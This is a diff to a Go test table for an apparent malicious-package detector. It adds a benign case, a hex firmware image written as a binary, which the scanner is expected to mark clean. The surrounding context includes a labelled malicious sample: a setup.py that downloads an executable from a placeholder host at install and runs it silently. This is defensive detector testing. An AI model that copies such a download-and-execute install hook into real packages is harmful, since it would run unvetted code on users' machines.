@@ -33,6 +33,8 @@ func TestPopularProjectShapes(t *testing.T) {
 			"import os, urllib.request\ndef fetch_image(url):\n    return urllib.request.urlopen(url).read()\n" +
 			"def start_viewer(path):\n    os.startfile(path)\n" +
 			"def convert(src, dest):\n    with open(dest, 'wb') as f:\n        f.write(src.encode())\n    start_viewer(dest)\n"}, "", Clean},
+		{"a firmware image fetched as hex text and written as a binary by a helper", map[string]string{"p/flash.py": "" +
+			"import binascii, requests\ndef fetch(url, dest):\n    b = requests.get(url)\n    with open(dest + '.bin', 'wb') as f:\n        f.write(binascii.unhexlify(b.text.strip()))\n"}, "", Clean},
 		{"a downloaded file run as the program at install", map[string]string{"setup.py": "" +
 			"import subprocess, urllib.request\nfrom setuptools import setup\ndest = 'helper.exe'\nurllib.request.urlretrieve('https://example.invalid/h.exe', dest)\nsubprocess.call([dest, '/S'])\nsetup(name='p')\n"}, "download-execute", Malicious},
 		{"a downloaded file run from a format string at install", map[string]string{"setup.py": "" +
